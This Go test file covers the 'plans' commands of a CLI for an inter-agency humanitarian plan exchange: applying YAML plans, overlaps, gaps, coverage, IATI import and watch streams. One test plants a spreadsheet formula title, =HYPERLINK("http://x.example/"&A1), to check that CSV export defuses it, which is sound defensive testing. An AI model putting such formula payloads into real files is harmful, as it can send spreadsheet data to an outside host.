package cli

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"google.golang.org/protobuf/proto"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"google.golang.org/protobuf/encoding/protojson"

	"github.com/alltogether/exchange/client"
	exchangev1 "github.com/alltogether/exchange/proto/alltogether/exchange/v1"
)

const (
	mApplyPlans  = exchangev1.PlanService_ApplyPlans_FullMethodName
	mImportIati  = exchangev1.PlanService_ImportIatiActivities_FullMethodName
	mWatchPlans  = exchangev1.PlanService_WatchPlans_FullMethodName
	mFindGaps    = exchangev1.PlanService_FindGaps_FullMethodName
	mGetCoverage = exchangev1.PlanService_GetCoverage_FullMethodName
)

// planFixture is a fake exchange with ilo, iom and unicef and the
// provinces of Cambodia the tests use.
func planFixture(t *testing.T) *fixture {
	f := newFixture(t)
	for _, id := range []string{"ilo", "iom", "unicef"} {
		f.server.PutAgency(&exchangev1.Agency{Name: client.AgencyName(id), DisplayName: strings.ToUpper(id), Kind: exchangev1.AgencyKind_AGENCY_KIND_UN_AGENCY})
	}
	for _, l := range [][2]string{{"KH-1", "Banteay Meanchey"}, {"KH-2", "Battambang"}, {"KH-12", "Phnom Penh"}, {"KH-14", "Prey Veng"}} {
		f.server.PutLocation(&exchangev1.Location{Name: client.LocationName(l[0]), Code: l[0], Country: "KH", DisplayName: l[1]})
	}
	return f
}

// copyTestdata copies testdata/name into a temporary directory and
// returns its path there.
func copyTestdata(t *testing.T, name string) string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// editFile replaces old by new in the file at path.
func editFile(t *testing.T, path, old, new string) {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(data), old) {
		t.Fatalf("%s lacks %q", path, old)
	}
	if err := os.WriteFile(path, []byte(strings.Replace(string(data), old, new, 1)), 0o644); err != nil {
		t.Fatal(err)
	}
}

// tableRows returns the rows of a printed table whose first cell is
// first, as fields.
func tableRows(out, first string) [][]string {
	var rows [][]string
	for line := range strings.SplitSeq(out, "\n") {
		if f := strings.Fields(line); len(f) > 0 && f[0] == first {
			rows = append(rows, f)
		}
	}
	return rows
}

func TestRunPlansApply(t *testing.T) {
	f := planFixture(t)
	path := copyTestdata(t, "plans.yaml")

	// A dry run says what would happen, sends validate_only, changes
	// nothing, and exits 1: changes would be made.
	r := f.runAs("agency/ilo", "plans", "apply", "-f", path, "--dry-run")
	if r.code != 1 {
		t.Fatalf("dry run: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	if rows := tableRows(r.stdout, "create"); len(rows) != 3 || rows[0][1] != "XM-DAC-41302-LA-2026-01" || rows[0][2] != "-" {
		t.Errorf("dry run table:\n%s", r.stdout)
	}
	if !strings.HasPrefix(r.stdout, "ACTION ") || !strings.Contains(r.stderr, "Dry run: would create 3, update 0, cancel 0; 0 unchanged. Nothing was changed.") {
		t.Errorf("dry run output:\n%s\nstderr:\n%s", r.stdout, r.stderr)
	}
	req := f.server.Calls(mApplyPlans)[0].Request.(*exchangev1.ApplyPlansRequest)
	if !req.GetValidateOnly() || req.GetParent() != "agencies/ilo" || len(req.GetPlans()) != 3 || req.GetPrune() {
		t.Errorf("dry run request: validate_only %v, parent %q, %d plans, prune %v", req.GetValidateOnly(), req.GetParent(), len(req.GetPlans()), req.GetPrune())
	}
	if n := len(f.server.Plans()); n != 0 {
		t.Fatalf("the dry run stored %d plans", n)
	}

	// Applying creates them: exit 1.
	r = f.runAs("agency/ilo", "plans", "apply", "-f", path)
	if r.code != 1 || len(tableRows(r.stdout, "create")) != 3 || !strings.Contains(r.stderr, "Created 3, updated 0, cancelled 0; 0 unchanged at revision") {
		t.Fatalf("apply: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	if r.stderr != "" && strings.Contains(r.stderr, "exchangectl:") {
		t.Errorf("exit 1 for changes printed an error: %q", r.stderr)
	}
	stored := f.server.Plans()
	if len(stored) != 3 || stored[0].GetOwner() != "agencies/ilo" {
		t.Fatalf("stored %v", stored)
	}

	// Again: nothing changes, exit 0.
	r = f.runAs("agency/ilo", "plans", "apply", "-f", path)
	if r.code != 0 || len(tableRows(r.stdout, "unchanged")) != 3 {
		t.Errorf("second apply: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}

	// A change in the file: one update naming the changed fields.
	editFile(t, path, "title: Skills training and job placement", "title: Vocational skills and job placement")
	editFile(t, path, "- {country: KH, subdivision: KH-2}", "- {country: KH, subdivision: KH-2}\n      - {country: KH, subdivision: KH-22}")
	r = f.runAs("agency/ilo", "plans", "apply", "-f", path, "--dry-run")
	update := tableRows(r.stdout, "update")
	if r.code != 1 || len(update) != 1 || update[0][1] != "XM-DAC-41302-KH-2026-02" || !strings.Contains(r.stdout, "title, locations") || len(tableRows(r.stdout, "unchanged")) != 2 {
		t.Errorf("dry run of an update: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	r = f.runAs("agency/ilo", "plans", "apply", "-f", path)
	if r.code != 1 || !strings.Contains(r.stderr, "updated 1") {
		t.Errorf("update: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}

	// A conflict: the file carries the etag ilo read; someone changes the
	// plan since; the file's change is refused, exit 5.
	var kh *exchangev1.Plan
	for _, p := range f.server.Plans() {
		if p.GetExternalId() == "XM-DAC-41302-KH-2026-02" {
			kh = p
		}
	}
	editFile(t, path, "    stage: draft\n", "    stage: agreed\n    etag: "+kh.GetEtag()+"\n")
	changed := proto2(kh)
	changed.Description = "Changed on the exchange by a colleague."
	f.server.PutPlan(changed)
	r = f.runAs("agency/ilo", "plans", "apply", "-f", path)
	conflict := tableRows(r.stdout, "conflict")
	if r.code != ExitConflict || len(conflict) != 1 || !strings.Contains(r.stdout, "changed since the etag sent") ||
		!strings.Contains(r.stderr, "exchangectl: 1 plan is in conflict") {
		t.Errorf("conflict: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}

	// JSON: the API's response.
	editFile(t, path, "    etag: "+kh.GetEtag()+"\n", "")
	r = f.runAs("agency/ilo", "--json", "plans", "apply", "-f", path, "--dry-run")
	var resp exchangev1.ApplyPlansResponse
	if err := protojson.Unmarshal([]byte(r.stdout), &resp); err != nil || r.code != 1 || !resp.GetChanged() ||
		resp.GetResults()[1].GetAction() != exchangev1.PlanApplyAction_PLAN_APPLY_ACTION_UPDATE {
		t.Errorf("JSON (%v): exit %d\n%s", err, r.code, r.stdout)
	}

	// Prune: a plan dropped from the file is cancelled only with --prune.
	data, _ := os.ReadFile(path)
	cut := strings.Index(string(data), "  - externalId: XM-DAC-41302-TH-2026-03")
	if err := os.WriteFile(path, data[:cut], 0o644); err != nil {
		t.Fatal(err)
	}
	r = f.runAs("agency/ilo", "plans", "apply", "-f", path)
	if len(tableRows(r.stdout, "cancel")) != 0 {
		t.Errorf("without --prune:\n%s", r.stdout)
	}
	r = f.runAs("agency/ilo", "plans", "apply", "-f", path, "--prune")
	cancel := tableRows(r.stdout, "cancel")
	if r.code != 1 || len(cancel) != 1 || cancel[0][1] != "XM-DAC-41302-TH-2026-03" || !strings.Contains(r.stdout, "not in the file (--prune)") {
		t.Errorf("prune: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	if r = f.runAs("agency/ilo", "plans", "apply", "-f", path, "--prune"); r.code != 0 {
		t.Errorf("prune again: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
}

// proto2 is a copy of p.
func proto2(p *exchangev1.Plan) *exchangev1.Plan {
	b, _ := protojson.Marshal(p)
	out := &exchangev1.Plan{}
	_ = protojson.Unmarshal(b, out)
	return out
}

func TestRunPlansApplyErrors(t *testing.T) {
	f := planFixture(t)
	dir := t.TempDir()
	write := func(name, content string) string {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
		return path
	}
	good := copyTestdata(t, "plans.yaml")
	tests := []struct {
		name     string
		identity string
		args     []string
		code     int
		stderr   []string
	}{
		{"typo in the file", "agency/ilo", []string{"-f", write("typo.yaml", "plans:\n  - externalId: X-1\n    titel: Shelter\n")}, ExitInvalid,
			[]string{"typo.yaml, line 3: plans[0].titel: unknown field"}},
		{"another agency's file", "agency/iom", []string{"-f", good}, ExitUsage, []string{"lists the plans of agencies/ilo, but your certificate is agencies/iom's"}},
		{"the secretariat", "secretariat", []string{"-f", good}, ExitUsage, []string{"plans belong to agencies"}},
		{"no such file", "agency/ilo", []string{"-f", filepath.Join(dir, "missing.yaml")}, ExitError, []string{"missing.yaml"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			before := len(f.server.Calls(""))
			r := f.runAs(tt.identity, append([]string{"plans", "apply"}, tt.args...)...)
			if r.code != tt.code {
				t.Errorf("exit %d, want %d; stderr %q", r.code, tt.code, r.stderr)
			}
			for _, w := range tt.stderr {
				if !strings.Contains(r.stderr, w) {
					t.Errorf("stderr %q lacks %q", r.stderr, w)
				}
			}
			if n := len(f.server.Calls("")) - before; n != 0 {
				t.Errorf("%d calls made", n)
			}
		})
	}

	// The exchange refuses a plan: the error names plans[i] and where it
	// is in the file (line 44), and nothing changes.
	bad := copyTestdata(t, "plans.yaml")
	editFile(t, bad, "subdivision: KH-2}", "subdivision: KH-99}")
	r := f.runAs("agency/ilo", "plans", "apply", "-f", bad)
	if r.code != ExitInvalid || !strings.Contains(r.stderr, "field plans[1].locations[1].subdivision") ||
		!strings.Contains(r.stderr, "plans[1] is XM-DAC-41302-KH-2026-02 at "+bad+" line 44") {
		t.Errorf("refused plan: exit %d, stderr %q", r.code, r.stderr)
	}
	if n := len(f.server.Plans()); n != 0 {
		t.Errorf("%d plans stored", n)
	}
}

// seedPlans stores plans of ilo, iom and unicef in Cambodia, all shared
// with every member: ilo and iom overlap in prevention in KH-1 (iom's
// covers all of KH), unicef works in shelter in KH-12.
func seedPlans(t *testing.T, f *fixture) {
	t.Helper()
	year := &exchangev1.DatePeriod{Start: date(2026, 1, 1), End: date(2026, 12, 31)}
	for _, p := range []*exchangev1.Plan{
		{Name: "agencies/ilo/plans/01j00000000000000000000001", Owner: "agencies/ilo", ExternalId: "ILO-KH-01", Title: "Safe migration in Banteay Meanchey",
			Niches: []exchangev1.Niche{exchangev1.Niche_NICHE_PREVENTION}, Locations: []*exchangev1.LocationRef{{Country: "KH", Subdivision: "KH-1"}}},
		{Name: "agencies/iom/plans/01j00000000000000000000002", Owner: "agencies/iom", ExternalId: "IOM-KH-01", Title: "Community awareness across Cambodia",
			Niches: []exchangev1.Niche{exchangev1.Niche_NICHE_PREVENTION, exchangev1.Niche_NICHE_RETURN_AND_REINTEGRATION}, Locations: []*exchangev1.LocationRef{{Country: "KH"}}},
		{Name: "agencies/unicef/plans/01j00000000000000000000003", Owner: "agencies/unicef", ExternalId: "UNICEF-KH-01", Title: "Emergency shelter in Phnom Penh",
			Niches: []exchangev1.Niche{exchangev1.Niche_NICHE_SHELTER}, Locations: []*exchangev1.LocationRef{{Country: "KH", Subdivision: "KH-12"}}},
	} {
		p.PlannedPeriod = year
		p.Audience = &exchangev1.Audience{AllMembers: true}
		f.server.PutPlan(p)
	}
}

func TestRunPlansViews(t *testing.T) {
	f := planFixture(t)
	seedPlans(t, f)

	// Overlaps: ilo's and iom's plans share prevention in KH-1.
	r := f.runAs("agency/unicef", "plans", "overlaps", "--country", "KH", "--period", "2026").must(t)
	lines := strings.Split(strings.TrimSpace(r.stdout), "\n")
	if len(lines) != 2 || !strings.HasPrefix(lines[0], "PLAN ") ||
		!strings.Contains(lines[1], "ilo ILO-KH-01 Safe migration in Banteay Meanchey") || !strings.Contains(lines[1], "iom IOM-KH-01") ||
		!strings.Contains(lines[1], "prevention  ") || !strings.Contains(lines[1], "KH-1 ") || !strings.Contains(lines[1], "2026-01-01..2026-12-31") {
		t.Errorf("overlaps table:\n%s", r.stdout)
	}
	r = f.runAs("agency/unicef", "plans", "overlaps", "--csv").must(t)
	records, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	if err != nil || len(records) != 2 || records[0][0] != "first_plan" || records[1][1] != "ilo" || records[1][6] != "iom" ||
		records[1][10] != "prevention" || records[1][11] != "KH-1" || records[1][12] != "2026-01-01" {
		t.Errorf("overlaps CSV (%v):\n%s", err, r.stdout)
	}
	// A title another agency wrote cannot act as a spreadsheet formula.
	var iloPlan *exchangev1.Plan
	for _, p := range f.server.Plans() {
		if p.GetOwner() == "agencies/ilo" {
			iloPlan = proto.CloneOf(p)
		}
	}
	iloPlan.Title = "=HYPERLINK(\"http://x.example/\"&A1)"
	f.server.PutPlan(iloPlan)
	r = f.runAs("agency/unicef", "plans", "overlaps", "--csv").must(t)
	if records, err = csv.NewReader(strings.NewReader(r.stdout)).ReadAll(); err != nil || len(records) != 2 || records[1][3] != "'"+iloPlan.Title {
		t.Errorf("overlaps CSV with a formula title (%v):\n%s", err, r.stdout)
	}
	r = f.runAs("agency/unicef", "--json", "plans", "overlaps").must(t)
	var overlaps []map[string]any
	if err := json.Unmarshal([]byte(r.stdout), &overlaps); err != nil || len(overlaps) != 1 {
		t.Errorf("overlaps JSON (%v):\n%s", err, r.stdout)
	}
	if r = f.runAs("agency/unicef", "plans", "overlaps", "--niche", "shelter").must(t); r.stdout != "" || !strings.Contains(r.stderr, "No overlaps found.") {
		t.Errorf("no overlaps: %q, %q", r.stdout, r.stderr)
	}

	// Gaps: the provinces of KH without a plan in the niches asked for;
	// iom's plan covers all of KH.
	r = f.runAs("agency/unicef", "plans", "gaps", "--country", "KH", "--niche", "shelter,prevention,legal-aid").must(t)
	gaps := map[string]string{}
	for _, line := range strings.Split(r.stdout, "\n") {
		if strings.HasPrefix(line, "KH-") {
			code, rest, _ := strings.Cut(line, " ")
			gaps[code] = strings.TrimSpace(rest)
		}
	}
	if !strings.HasPrefix(r.stdout, "Gaps in KH, 2026-01-01..2026-12-31") || !strings.Contains(gaps["KH-1"], "Banteay Meanchey") ||
		!strings.HasSuffix(gaps["KH-1"], "legal-aid, shelter") || !strings.HasSuffix(gaps["KH-12"], "legal-aid") || strings.Contains(gaps["KH-12"], "shelter") {
		t.Errorf("gaps table (%v):\n%s", gaps, r.stdout)
	}
	req := f.server.Calls(mFindGaps)[0].Request.(*exchangev1.FindGapsRequest)
	if req.GetCountry() != "KH" || req.GetPeriod().GetStart().GetYear() != 2026 || len(req.GetNiches()) != 3 {
		t.Errorf("gaps request %v", req)
	}
	r = f.runAs("agency/unicef", "plans", "gaps", "--country", "KH", "--niche", "legal-aid", "--csv").must(t)
	records, err = csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	if err != nil || len(records) < 2 || strings.Join(records[0], ",") != "province,name,niche" || records[1][2] != "legal-aid" {
		t.Errorf("gaps CSV (%v):\n%s", err, r.stdout)
	}

	// Coverage: a matrix of provinces (every one the exchange lists) and
	// niches with plans, counting agencies.
	r = f.runAs("agency/unicef", "plans", "coverage", "--country", "KH").must(t)
	rows := map[string][]string{}
	var header []string
	for _, line := range strings.Split(r.stdout, "\n") {
		fields := strings.Fields(line)
		switch {
		case len(fields) > 0 && fields[0] == "PROVINCE":
			header = fields
		case len(fields) > 0 && strings.HasPrefix(fields[0], "KH"):
			rows[fields[0]] = fields
		}
	}
	wantHeader := "PROVINCE NAME prevention return-and-reintegration shelter"
	if strings.Join(header, " ") != wantHeader {
		t.Fatalf("coverage header %q, want %q:\n%s", strings.Join(header, " "), wantHeader, r.stdout)
	}
	last := func(code string, n int) string {
		row := rows[code]
		if len(row) < n {
			return ""
		}
		return strings.Join(row[len(row)-n:], " ")
	}
	if last("KH", 3) != "1 1 -" || last("KH-1", 3) != "1 - -" || last("KH-12", 3) != "- - 1" || last("KH-14", 3) != "- - -" || !strings.Contains(r.stdout, "(whole country)") {
		t.Errorf("coverage matrix:\n%s", r.stdout)
	}
	r = f.runAs("agency/unicef", "plans", "coverage", "--country", "KH", "--csv").must(t)
	records, err = csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	if err != nil || len(records) != 5 || strings.Join(records[0], ",") != "province,name,niche,agencies,plans,agency_ids" ||
		strings.Join(records[1], ",") != "KH,,prevention,1,1,iom" || strings.Join(records[3], ",") != "KH-1,Banteay Meanchey,prevention,1,1,ilo" {
		t.Errorf("coverage CSV (%v):\n%s", err, r.stdout)
	}
	r = f.runAs("agency/unicef", "--json", "plans", "coverage", "--country", "KH", "--niche", "shelter").must(t)
	var cov exchangev1.GetCoverageResponse
	if err := protojson.Unmarshal([]byte(r.stdout), &cov); err != nil || len(cov.GetCells()) != 1 || cov.GetCells()[0].GetAgencies()[0] != "agencies/unicef" {
		t.Errorf("coverage JSON (%v):\n%s", err, r.stdout)
	}
	if got := f.server.Calls(mGetCoverage); len(got) != 3 {
		t.Errorf("%d coverage calls", len(got))
	}
	if r = f.runAs("agency/unicef", "--json", "plans", "gaps", "--country", "KH", "--csv"); r.code != ExitUsage {
		t.Errorf("--json --csv: exit %d", r.code)
	}
}

func TestRunPlansReadVerbs(t *testing.T) {
	f := planFixture(t)
	ctx := context.Background()
	ilo := f.server.Dial(t, "agency/ilo")
	p, err := ilo.Plans.Create(ctx, "agencies/ilo", &exchangev1.Plan{
		ExternalId: "ILO-KH-01", Title: "Safe migration in Banteay Meanchey", Stage: exchangev1.PlanStage_PLAN_STAGE_CONCEPT,
		Niches: []exchangev1.Niche{exchangev1.Niche_NICHE_PREVENTION}, Locations: []*exchangev1.LocationRef{{Country: "KH", Subdivision: "KH-1"}},
		PlannedPeriod: &exchangev1.DatePeriod{Start: date(2026, 4, 1), End: date(2027, 3, 31)},
		Budget:        &exchangev1.PlanBudget{CurrencyCode: "USD", TotalAmount: "350000"},
		Partners:      []*exchangev1.PlanPartner{{Agency: "agencies/iom", Roles: []exchangev1.PlanPartnerRole{exchangev1.PlanPartnerRole_PLAN_PARTNER_ROLE_IMPLEMENTING}}},
		Audience:      &exchangev1.Audience{AllMembers: true},
	})
	if err != nil {
		t.Fatal(err)
	}
	p.Stage = exchangev1.PlanStage_PLAN_STAGE_AGREED
	p.Locations = append(p.Locations, &exchangev1.LocationRef{Country: "KH", Subdivision: "KH-2"})
	if _, err := ilo.Plans.Update(ctx, p); err != nil {
		t.Fatal(err)
	}
	short := shortPlanName(p.GetName())

	r := f.runAs("agency/iom", "plans", "list", "--country", "KH").must(t)
	if rows := tableRows(r.stdout, short); len(rows) != 1 || rows[0][1] != "ILO-KH-01" || rows[0][2] != "agreed" || !strings.Contains(r.stdout, "KH-1, KH-2") {
		t.Errorf("list:\n%s", r.stdout)
	}
	if r = f.runAs("agency/iom", "plans", "list", "--country", "LA").must(t); r.stdout != "" || !strings.Contains(r.stderr, "No plans found.") {
		t.Errorf("empty list: %q %q", r.stdout, r.stderr)
	}

	r = f.runAs("agency/iom", "plans", "get", short).must(t)
	for _, want := range []string{"Name:", p.GetName(), "Stage:", "agreed", "Budget:", "350000 USD", "Partners:", "iom (implementing)", "Shared with:", "all members", "Version:", "2"} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("get lacks %q:\n%s", want, r.stdout)
		}
	}
	r = f.runAs("agency/iom", "--json", "plans", "get", p.GetName(), "--version", "1").must(t)
	var v1 exchangev1.Plan
	if err := protojson.Unmarshal([]byte(r.stdout), &v1); err != nil || v1.GetVersion() != 1 || v1.GetStage() != exchangev1.PlanStage_PLAN_STAGE_CONCEPT {
		t.Errorf("get --version 1 (%v):\n%s", err, r.stdout)
	}
	if r = f.runAs("agency/iom", "plans", "get", short, "--version", "9"); r.code != ExitNotFound {
		t.Errorf("missing version: exit %d", r.code)
	}

	r = f.runAs("agency/iom", "plans", "versions", short).must(t)
	if len(tableRows(r.stdout, "1")) != 1 || len(tableRows(r.stdout, "2")) != 1 {
		t.Errorf("versions:\n%s", r.stdout)
	}

	r = f.runAs("agency/iom", "plans", "diff", short, "--from", "1").must(t)
	if !strings.HasPrefix(r.stdout, "From version 1 to 2:") || !strings.Contains(r.stdout, `stage      "PLAN_STAGE_CONCEPT" -> "PLAN_STAGE_AGREED"`) ||
		!strings.Contains(r.stdout, `locations  +{"country":"KH","subdivision":"KH-2"}`) {
		t.Errorf("diff:\n%s", r.stdout)
	}

	if r = f.runAs("agency/iom", "plans", "cancel", short, "--reason", "not mine"); r.code != ExitDenied {
		t.Errorf("cancel by another agency: exit %d", r.code)
	}
	r = f.runAs("agency/ilo", "plans", "cancel", short, "--reason", "merged into the joint UN programme").must(t)
	if !strings.Contains(r.stdout, "cancelled") || !strings.Contains(r.stdout, "merged into the joint UN programme") {
		t.Errorf("cancel:\n%s", r.stdout)
	}
	if r = f.runAs("agency/ilo", "plans", "cancel", short, "--reason", "again"); r.code != ExitInvalid {
		t.Errorf("cancel twice: exit %d (FAILED_PRECONDITION)", r.code)
	}
}

func TestRunPlansImportIati(t *testing.T) {
	f := planFixture(t)
	path := copyTestdata(t, "iom-activities.xml")

	r := f.runAs("agency/iom", "plans", "import-iati", path, "--dry-run", "--audience", "all")
	if r.code != 1 {
		t.Fatalf("dry run: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	req := f.server.Calls(mImportIati)[0].Request.(*exchangev1.ImportIatiActivitiesRequest)
	if !req.GetValidateOnly() || req.GetParent() != "agencies/iom" || !req.GetAudience().GetAllMembers() || len(req.GetIatiXml()) < 1000 {
		t.Errorf("request: validate_only %v, parent %q, audience %v, %d bytes", req.GetValidateOnly(), req.GetParent(), req.GetAudience(), len(req.GetIatiXml()))
	}
	if len(f.server.Plans()) != 0 {
		t.Fatal("the dry run stored plans")
	}
	create, skip := tableRows(r.stdout, "1"), tableRows(r.stdout, "2")
	if len(create) != 1 || create[0][1] != "XM-DAC-47066-KH-2026-RR-01" || create[0][2] != "create" ||
		len(skip) != 1 || skip[0][2] != "skip" || !strings.Contains(r.stdout, "no recipient-country and no location with a province") {
		t.Errorf("activities:\n%s", r.stdout)
	}
	// Every unmapped element, of the activities and of the file.
	for _, want := range []string{
		"Not mapped (16):",
		"iati-activity[1]/transaction[1]", "financial transactions are not part of a plan",
		"iati-activity[1]/sector[1]/@percentage", "60",
		"iati-activity[2]/reporting-org[1]",
		"iati-activities/@generated-datetime", "file metadata",
	} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("output lacks %q:\n%s", want, r.stdout)
		}
	}
	if !strings.Contains(r.stderr, "IATI 2.03, 2 activities: would create 1, update 0, cancel 0; 0 unchanged, 1 skipped; 16 elements not mapped. Nothing was changed.") {
		t.Errorf("summary: %q", r.stderr)
	}

	r = f.runAs("agency/iom", "plans", "import-iati", path)
	if r.code != 1 || len(f.server.Plans()) != 1 || f.server.Plans()[0].GetAudience() != nil {
		t.Errorf("import: exit %d, %v\n%s%s", r.code, f.server.Plans(), r.stdout, r.stderr)
	}
	r = f.runAs("agency/iom", "--json", "plans", "import-iati", path)
	var resp exchangev1.ImportIatiActivitiesResponse
	if err := protojson.Unmarshal([]byte(r.stdout), &resp); err != nil || r.code != 0 || resp.GetChanged() ||
		resp.GetActivities()[0].GetResult().GetAction() != exchangev1.PlanApplyAction_PLAN_APPLY_ACTION_UNCHANGED {
		t.Errorf("import again (%v): exit %d\n%s", err, r.code, r.stdout)
	}

	notIati := filepath.Join(t.TempDir(), "x.xml")
	if err := os.WriteFile(notIati, []byte("<activities/>"), 0o644); err != nil {
		t.Fatal(err)
	}
	if r = f.runAs("agency/iom", "plans", "import-iati", notIati); r.code != ExitInvalid || !strings.Contains(r.stderr, "field iati_xml") {
		t.Errorf("not an IATI file: exit %d, %q", r.code, r.stderr)
	}
}

// startPlansWatch runs `plans watch` as iom in the background.
func (f *fixture) startPlansWatch(t *testing.T, args ...string) *watchRun {
	t.Helper()
	w := &watchRun{stdout: &syncBuffer{}, stderr: &syncBuffer{}, done: make(chan int, 1)}
	e := newTestEnv(t)
	e.Stdout, e.Stderr = w.stdout, w.stderr
	ctx, cancel := context.WithCancel(context.Background())
	w.cancel = cancel
	t.Cleanup(cancel)
	go func() {
		w.done <- Run(ctx, append(append(f.agencyFlags("agency/iom"), "plans", "watch"), args...), e.Environment)
	}()
	return w
}

func TestRunPlansWatch(t *testing.T) {
	f := planFixture(t)
	ctx := context.Background()
	ilo := f.server.Dial(t, "agency/ilo")
	newPlan := func(id, province string) *exchangev1.Plan {
		p, err := ilo.Plans.Create(ctx, "agencies/ilo", &exchangev1.Plan{
			ExternalId: id, Title: "Plan " + id, Stage: exchangev1.PlanStage_PLAN_STAGE_CONCEPT,
			Niches: []exchangev1.Niche{exchangev1.Niche_NICHE_PREVENTION}, Locations: []*exchangev1.LocationRef{{Country: "KH", Subdivision: province}},
			PlannedPeriod: &exchangev1.DatePeriod{Start: date(2026, 1, 1)}, Audience: &exchangev1.Audience{AllMembers: true},
		})
		if err != nil {
			t.Fatal(err)
		}
		return p
	}
	from := f.server.Revision()
	first := newPlan("ILO-1", "KH-1")
	newPlan("ILO-ELSEWHERE", "KH-12")
	f.server.SetWatchHeartbeat(20 * time.Millisecond)
	// The first stream drops after one event: the watch says so, resumes
	// and prints nothing twice.
	f.server.BreakWatch(1)
	w := f.startPlansWatch(t, "--from", fmt.Sprint(from), "--province", "KH-1")
	w.waitLines(t, 1)
	if _, err := ilo.Plans.Cancel(ctx, first.GetName(), "merged", ""); err != nil {
		t.Fatal(err)
	}
	w.waitLines(t, 2)
	time.Sleep(100 * time.Millisecond)
	if code := w.stop(t); code != ExitOK {
		t.Errorf("exit %d after interrupt; stderr:\n%s", code, w.stderr)
	}
	lines := strings.Split(strings.TrimSpace(w.stdout.String()), "\n")
	short := shortPlanName(first.GetName())
	if len(lines) != 2 || !strings.Contains(lines[0], "created   "+short+" ILO-1 concept prevention [KH-1] Plan ILO-1") ||
		!strings.Contains(lines[1], "cancelled "+short+" ILO-1 cancelled") {
		t.Errorf("events:\n%s", w.stdout)
	}
	if !strings.Contains(w.stderr.String(), "exchangectl: watch interrupted") || !strings.Contains(w.stderr.String(), fmt.Sprintf("after revision %d", from)) {
		t.Errorf("stderr: %q", w.stderr)
	}
	for _, call := range f.server.Calls(mWatchPlans) {
		if got := call.Request.(*exchangev1.WatchPlansRequest).GetSubdivisions(); len(got) != 1 || got[0] != "KH-1" {
			t.Errorf("stream without the filter: %v", call.Request)
		}
	}

	// JSON Lines, from now.
	w = f.startPlansWatch(t, "--json")
	for len(f.server.Calls(mWatchPlans)) < 3 {
		time.Sleep(10 * time.Millisecond)
	}
	later := newPlan("ILO-LATER", "KH-2")
	lines = w.waitLines(t, 1)
	w.stop(t)
	var ev exchangev1.WatchPlansResponse
	if err := protojson.Unmarshal([]byte(lines[0]), &ev); err != nil || len(lines) != 1 || ev.GetPlan().GetName() != later.GetName() || ev.GetKind() != exchangev1.PlanEventKind_PLAN_EVENT_KIND_CREATED {
		t.Errorf("JSON lines (%v):\n%s", err, w.stdout)
	}

	// Behind the horizon: OUT_OF_RANGE, exit 6.
	f.server.CompactChanges(f.server.Revision())
	if r := f.runAs("agency/iom", "plans", "watch", "--from", fmt.Sprint(from)); r.code != ExitInvalid || !strings.Contains(r.stderr, "OUT_OF_RANGE") {
		t.Errorf("compacted: exit %d, stderr %q", r.code, r.stderr)
	}
}

func TestPlansUsageErrorsExitTwoBeforeAnyCall(t *testing.T) {
	f := planFixture(t)
	for _, args := range [][]string{
		{"plans", "apply"},
		{"plans", "get"},
		{"plans", "get", "nope"},
		{"plans", "diff", "ilo/" + testPlanID},
		{"plans", "cancel", "ilo/" + testPlanID},
		{"plans", "gaps"},
		{"plans", "coverage", "--country", "KH", "--period", "soon"},
		{"plans", "overlaps", "--niche", "prevention,shelter"},
		{"plans", "list", "--stage", "final"},
		{"plans", "watch", "--from", "-1"},
		{"plans", "import-iati"},
		{"plans", "frobnicate"},
	} {
		before := len(f.server.Calls(""))
		r := f.runAs("agency/ilo", args...)
		if r.code != ExitUsage || !strings.Contains(r.stderr, "--help' for usage") {
			t.Errorf("%v: exit %d, stderr %q", args, r.code, r.stderr)
		}
		if n := len(f.server.Calls("")) - before; n != 0 {
			t.Errorf("%v made %d calls", args, n)
		}
	}
}

func TestRunPlansApplyFromStdin(t *testing.T) {
	f := planFixture(t)
	data, err := os.ReadFile("testdata/plans.yaml")
	if err != nil {
		t.Fatal(err)
	}
	e := newTestEnv(t)
	e.Stdin = strings.NewReader(string(data))
	r := f.runIn(e, append(f.agencyFlags("agency/ilo"), "plans", "apply", "-f", "-", "--dry-run")...)
	if r.code != 1 || len(tableRows(r.stdout, "create")) != 3 {
		t.Errorf("apply from stdin: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	e = newTestEnv(t)
	e.Stdin = strings.NewReader("plans:\n  - externalId: X\n    nichs: [shelter]\n")
	if r = f.runIn(e, append(f.agencyFlags("agency/ilo"), "plans", "apply", "-f", "-")...); r.code != ExitInvalid ||
		!strings.Contains(r.stderr, "standard input, line 3: plans[0].nichs: unknown field") {
		t.Errorf("typo on stdin: exit %d, %q", r.code, r.stderr)
	}
}
